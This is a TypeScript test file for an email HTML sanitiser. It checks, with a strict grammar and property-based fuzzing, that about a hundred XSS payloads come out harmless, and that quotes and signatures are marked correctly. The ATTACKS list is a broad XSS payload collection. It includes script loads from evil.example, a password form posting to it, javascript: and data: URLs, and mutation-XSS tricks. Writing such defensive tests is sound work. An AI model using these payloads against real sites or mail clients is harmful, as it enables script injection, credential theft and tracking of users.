import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sanitiseHtml, sanitiseHtmlWithin } from '../../../sync-server/mail/sanitise-html.ts';

const TAGS = new Set(
	(
		'a abbr address b big blockquote br caption center code col colgroup dd del dfn div dl dt em figcaption figure font h1 h2 h3 ' +
		'h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup table tbody td tfoot th thead tr tt u ul var'
	).split(' '),
);
const ATTRIBUTES = new Set(
	(
		'title dir lang style align href rel target src data-remote-src alt width height color size start type border cellpadding ' +
		'cellspacing bgcolor colspan rowspan valign class'
	).split(' '),
);

const TAG = /<(\/?)([a-z][a-z0-9]*)((?: [a-z-]+="[^"<>]*")*)(?: \/)?>/g;

/** Holds the result against a grammar so narrow that every HTML parser reads it alike, and lists all that could act. */
function dangers(html: string): string[] {
	const found = [...html.replace(TAG, '').matchAll(/.{0,20}[<>].{0,20}/gs)].map((match) => `loose ${match[0]}`);
	for (const [, , name = '', written = ''] of html.matchAll(TAG)) {
		if (!TAGS.has(name)) found.push(`<${name}>`);
		const attributes = new Map(
			[...written.matchAll(/ ([a-z-]+)="([^"]*)"/g)].map(([, key = '', value = '']) => [key, value]),
		);
		for (const [key, value] of attributes) {
			if (!ATTRIBUTES.has(key)) found.push(`${name}[${key}]`);
			if (key === 'class' && !/^mail-(quote|quote-start|signature)$/.test(value)) found.push(`class ${value}`);
			if (key === 'href' && !/^(https?:\/\/|mailto:|tel:)/i.test(value)) found.push(`href ${value}`);
			if (key === 'href' && attributes.get('rel') !== 'noopener noreferrer nofollow') found.push('rel');
			if (key === 'href' && attributes.get('target') !== '_blank') found.push('target');
			if (key === 'src' && !(name === 'img' && /^cid:[^\s"'<>]+$/.test(value))) found.push(`src ${value}`);
			if (key === 'data-remote-src' && !/^https?:\/\//.test(value)) found.push(`remote ${value}`);
			if (key === 'style' && !/^[a-z-]+:[\w #(),.%/-]+(;[a-z-]+:[\w #(),.%/-]+)*$/.test(value))
				found.push(`style ${value}`);
			if (key === 'style' && /url|expression|import|behavior|position|var\(/i.test(value)) found.push(`style ${value}`);
		}
	}
	return found;
}

const ATTACKS = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
	'<scr<script>ipt>alert(1)</scr</script>ipt>',
	'<<script>alert(1)//<</script>',
	'<script\0>alert(1)</script>',
	'<script/xss src=x></script>',
	'<img src=x onerror=alert(1)>',
	'<img src=x onerror\n=alert(1)>',
	'<img/src=x/onerror=alert(1)>',
	'<img src="x` `<script>alert(1)</script>"` `>',
	'<img src=javascript:alert(1)>',
	'<img src="jav&#x09;ascript:alert(1)">',
	'<img src="data:image/svg+xml;base64,PHN2Zy8+">',
	'<img src="data:text/html,<script>alert(1)</script>">',
	'<img srcset="http://evil.example/a 1x">',
	'<img src="cid:x" onload=alert(1)>',
	'<img src="cid:x&quot; onload=&quot;alert(1)">',
	'<img lowsrc="javascript:1" dynsrc="javascript:1">',
	'<body onload=alert(1)>',
	'<body background="javascript:alert(1)">',
	'<table background="http://evil.example/a"><td background="http://evil.example/b">x',
	'<a href="javascript:alert(1)">x</a>',
	'<a href="JaVaScRiPt:alert(1)">x</a>',
	'<a href=" &#14; javascript:alert(1)">x</a>',
	'<a href="java\nscript:alert(1)">x</a>',
	'<a href="java&#0;script:alert(1)">x</a>',
	'<a href="java&Tab;script&colon;alert(1)">x</a>',
	'<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
	'<a href="\u0001javascript:alert(1)">x</a>',
	'<a href="vbscript:msgbox(1)">x</a>',
	'<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
	'<a href="file:///etc/passwd">x</a>',
	'<a href="blob:https://x/1">x</a>',
	'<a href="intent://x#Intent;end">x</a>',
	'<a href="/settings/wipe">x</a>',
	'<a href="#ticket">x</a>',
	'<a href="http://[bad">x</a>',
	'<a href="https://ok.example/" target="_self" rel="opener" onclick="x()" ping="http://evil.example" download>x</a>',
	'<a href="mailto:a@b.example?subject=x%0d%0aBcc:c@d.example">x</a>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data="x.swf"><embed src="x.swf"></object>',
	'<applet code="x"></applet>',
	'<form action="http://evil.example"><input name=password><button formaction="javascript:1">Anmelden</button></form>',
	'<isindex action="javascript:1" type=image>',
	'<input autofocus onfocus=alert(1)>',
	'<select autofocus onfocus=alert(1)><option>x',
	'<textarea autofocus onfocus=alert(1)></textarea><script>alert(1)</script>',
	'<textarea></textarea><img src=x onerror=alert(1)>',
	'<video><source onerror="alert(1)"></video>',
	'<audio src=x onerror=alert(1)>',
	'<details open ontoggle=alert(1)>x</details>',
	'<marquee onstart=alert(1)>x</marquee>',
	'<svg onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>',
	'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
	'<svg><style><img src=x onerror=alert(1)></style></svg>',
	'<svg><animate attributeName=href values=javascript:alert(1)>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<template><script>alert(1)</script></template>',
	'<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
	'<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
	'<title><img title="</title><img src=x onerror=alert(1)>"></title>',
	'<plaintext><script>alert(1)</script>',
	'<style>@import "http://evil.example/a.css";</style>',
	'<link rel=stylesheet href="http://evil.example/a.css">',
	'<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
	'<base href="http://evil.example/">',
	'<p style="background:url(http://evil.example/a)">x</p>',
	'<p style="background-color:url(javascript:alert(1))">x</p>',
	'<p style="color:\\75rl(http://evil.example/a)">x</p>',
	'<p style="width:expression(alert(1))">x</p>',
	'<p style="color:red;position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
	'<p style="-moz-binding:url(x)">x</p>',
	'<p style="color:var(--x)">x</p>',
	'<p style="color:red/*;*/;background:u/**/rl(x)">x</p>',
	'<p style="color:red&quot; onclick=&quot;alert(1)">x</p>',
	'<font color="red&quot; onmouseover=&quot;alert(1)">x</font>',
	'<p id="app" class="button-primary" name="x" slot="y" is="z" tabindex=1 contenteditable>x</p>',
	'<p xmlns="x" xml:base="javascript:">x</p>',
	'<p title="x"onclick="alert(1)">x</p>',
	'<p title="x">\u0338 onmouseover=alert(1) <b>x</b></p>',
	'<p title="x">&#x338; onmouseover=alert(1) <b>x</b></p>',
	'<p title="x"\u0338 onmouseover=alert(1)>x</p>',
	'<!--><script>alert(1)</script>-->',
	'<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
	'<!-- --!><img src=x onerror=alert(1)> -->',
	'<![CDATA[<script>alert(1)</script>]]>',
	'<?xml version="1.0"?><?php alert(1) ?>',
	'<!DOCTYPE html [<!ENTITY x "<script>">]>&x;',
	'</p><script>alert(1)',
	'<img src="http://x.example/a.png" onerror="alert(1)"',
	'<p/onclick=alert(1)>x',
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'&amp;lt;img src=x onerror=alert(1)&amp;gt;',
	'＜script＞alert(1)＜/script＞',
	'<custom-element onclick=alert(1)>x</custom-element>',
	'<constructor __proto__=x>x</constructor>',
	'<portal src=x><frameset onload=alert(1)><frame src="javascript:1">',
	'<div><p title="<!--"><img src=x onerror=alert(1) title="-->">',
];

describe('[F1] a stranger’s HTML', () => {
	test.each(ATTACKS)('leaves nothing that acts: %s', (attack) => {
		expect(dangers(sanitiseHtml(attack))).toEqual([]);
		expect(dangers(sanitiseHtml(`<div><b>vor</b>${attack}`))).toEqual([]);
	});

	test('the grammar of these tests finds what acts', () => {
		const acting = [
			'<p onclick="x">',
			'<p title="a"\u226f onclick=x <b>',
			'<script>',
			'<a href="javascript:1">',
			'<img src="http://x" />',
			'<!-- -->',
		];
		for (const html of [...acting, '<p style="color:url(x)">']) expect(dangers(html)).not.toEqual([]);
	});

	test('any mix of attacks and odd characters leaves nothing that acts, and cleaning twice changes nothing', () => {
		const odd = fc.constantFrom(
			'<',
			'>',
			'"',
			"'",
			'=',
			' ',
			'/',
			'&',
			';',
			'\0',
			'\u0338',
			'`',
			'<p ',
			'</',
			'<!--',
			'-->',
			'\u202e',
			'&#x3c;',
		);
		const piece = fc.oneof(fc.constantFrom(...ATTACKS), odd, fc.string({ maxLength: 20 }));
		fc.assert(
			fc.property(fc.array(piece, { maxLength: 12, size: 'max' }), (pieces) => {
				const once = sanitiseHtml(pieces.join(''));
				expect(dangers(once)).toEqual([]);
				expect(dangers(sanitiseHtml(once))).toEqual([]);
			}),
			{ numRuns: 2_000 },
		);
	});

	test('text, tables, lists and emphasis stay', () => {
		const html =
			'<h1>Titel</h1><table border="1"><tr><td colspan="2"><b>a</b></td></tr></table><ul><li>x</li></ul><blockquote>y</blockquote>';
		expect(sanitiseHtml(html)).toBe(html);
	});

	test('colour, weight and alignment stay, all other CSS goes', () => {
		const html =
			'<p style="COLOR: #ff0000 !important; font-size:90px; text-align:center; display:none; background-color: rgb(1, 2, 3)">x</p>';
		expect(sanitiseHtml(html)).toBe('<p style="color:#ff0000;text-align:center;background-color:rgb(1, 2, 3)">x</p>');
	});

	test('nothing is fetched: a picture of the web keeps its address apart, one of the mail keeps its cid', () => {
		expect(sanitiseHtml('<img src="//cdn.example/a.png" alt="A">')).toBe(
			'<img alt="A" data-remote-src="https://cdn.example/a.png" />',
		);
		expect(sanitiseHtml('<img src="CID:a%40b.example">')).toBe('<img src="cid:a@b.example" />');
		expect(sanitiseHtml('<img src="x.png" data-remote-src="javascript:1">')).toBe('<img />');
	});

	test('a link opens apart and tells its target nothing; its address is the one a browser would open', () => {
		expect(sanitiseHtml('<a href="HTTPS://Kunde.example/a b?c=1&d=2" target="_top">x</a>')).toBe(
			'<a href="https://kunde.example/ab?c=1&amp;d=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
		);
	});

	test('the words of dropped elements do not become text', () => {
		expect(
			sanitiseHtml('<head><title>T</title><style>S</style></head><script>J</script><p>Text</p><noscript>N</noscript>'),
		).toBe('<p>Text</p>');
	});

	test('a cut is told and leaves well-formed HTML', () => {
		const { html, cut } = sanitiseHtmlWithin('<p>'.repeat(10) + 'x'.repeat(100), 60);
		expect(cut).toBe(true);
		expect(html.endsWith('</p>')).toBe(true);
		expect(sanitiseHtmlWithin('<p>x</p>', 60).cut).toBe(false);
	});
});

describe('quotes and signatures', () => {
	test.each([
		['<div class="gmail_quote gmail_quote_container">x</div>', '<div class="mail-quote">x</div>'],
		['<blockquote type="cite">x</blockquote>', '<blockquote class="mail-quote">x</blockquote>'],
		['<div class="moz-cite-prefix">Am ...</div>', '<div class="mail-quote">Am ...</div>'],
		['<div id="divRplyFwdMsg" dir="ltr">x</div>', '<div dir="ltr" class="mail-quote-start">x</div>'],
		['<div id="appendonsend"></div>', '<div class="mail-quote-start"></div>'],
		['<div class="gmail_signature">x</div>', '<div class="mail-signature">x</div>'],
		['<pre class="moz-signature">x</pre>', '<pre class="mail-signature">x</pre>'],
		['<div id="ms-outlook-mobile-signature">x</div>', '<div class="mail-signature">x</div>'],
		['<div class="header wide" id="menu">x</div>', '<div>x</div>'],
	])('are marked for folding, by classes of ours alone: %s', (html, expected) => {
		expect(sanitiseHtml(html)).toBe(expected);
		expect(sanitiseHtml(expected)).toBe(expected);
	});
});
